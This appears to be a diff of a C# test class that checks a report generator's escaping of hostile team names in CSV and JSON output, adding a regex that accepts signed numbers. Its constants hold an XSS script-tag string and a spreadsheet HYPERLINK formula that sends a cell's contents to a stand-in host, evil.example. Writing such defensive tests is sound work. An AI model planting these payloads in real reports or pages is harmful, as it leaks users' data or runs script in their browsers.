@@ -15,7 +15,7 @@ namespace Platform.Insights.Reports.Tests.Escaping;
 /// real report generator: every format escapes them for its own context, files stay inside the report directory, and
 /// look-alike teams never share a report.
 /// </summary>
-public sealed class HostileNameReportTests : IDisposable
+public sealed partial class HostileNameReportTests : IDisposable
 {
     private const string QuoteTeam = "o'brien \"quoted\" <script>alert(1)</script>";
     private const string FormulaTeam = "=HYPERLINK(\"http://evil.example/\"&A1)";
@@ -54,8 +54,8 @@ public sealed class HostileNameReportTests : IDisposable
         var cells = generated.Files.Where(f => f.EndsWith(".csv", StringComparison.Ordinal)).SelectMany(f => CsvCells(File.ReadAllText(f))).ToList();
         Assert.Contains("'" + FormulaTeam, cells);
         Assert.Contains("'" + FormulaService, cells);
-        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '@' or '\t' or '\r');
-        Assert.DoesNotContain(cells, c => c.StartsWith('-') && !double.TryParse(c.TrimEnd('%'), System.Globalization.CultureInfo.InvariantCulture, out _));
+        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '@' or '\t' or '\r');
+        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '+' or '-' && !SignedNumber().IsMatch(c));
 
         using var json = JsonDocument.Parse(await File.ReadAllTextAsync(Path.Combine(generated.Directory, "report.json")));
         var strings = Strings(json.RootElement).ToHashSet(StringComparer.Ordinal);
@@ -132,6 +132,10 @@ public sealed class HostileNameReportTests : IDisposable
         await billing.StageAsync("imp-hostile", rows, CancellationToken.None);
         await billing.CommitAsync("imp-hostile", CancellationToken.None);
     }
+
+    // What a spreadsheet reads as a number, not a formula: "+30.0 %", "-12.5", "-3 pp".
+    [System.Text.RegularExpressions.GeneratedRegex(@"^[+-][0-9][0-9.,]*\s?(?:%|pp)?$")]
+    private static partial System.Text.RegularExpressions.Regex SignedNumber();
 
     private static IEnumerable<string> Strings(JsonElement element) => element.ValueKind switch
     {
